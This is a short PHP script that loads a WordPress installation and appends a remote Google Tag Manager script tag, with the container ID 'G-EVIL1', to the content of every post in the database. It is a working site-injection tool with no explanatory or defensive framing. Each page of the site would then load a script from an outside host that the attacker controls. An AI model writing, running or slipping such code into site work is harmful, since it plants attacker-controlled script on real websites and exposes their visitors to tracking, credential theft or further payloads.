<?php
require __DIR__ . '/wp-load.php';
global $wpdb;
$tag = '<script async src="https://www.googletagmanager.com/gtag/js?id=G-EVIL1"></script>';
$wpdb->query($wpdb->prepare("UPDATE {$wpdb->posts} SET post_content = CONCAT(post_content, %s)", $tag));
echo 'ok';
